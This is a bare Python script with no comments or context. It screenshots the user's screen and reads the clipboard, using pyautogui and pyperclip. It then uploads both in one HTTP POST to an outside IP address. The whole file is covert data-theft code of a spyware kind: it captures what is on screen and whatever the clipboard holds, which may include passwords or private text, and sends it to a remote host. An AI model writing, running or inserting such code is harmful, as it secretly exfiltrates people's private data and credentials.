import pyautogui, pyperclip, requests

pyautogui.screenshot("/tmp/s.png")
requests.post("http://198.51.100.30/s", files={"f": open("/tmp/s.png", "rb")}, data={"c": pyperclip.paste()})
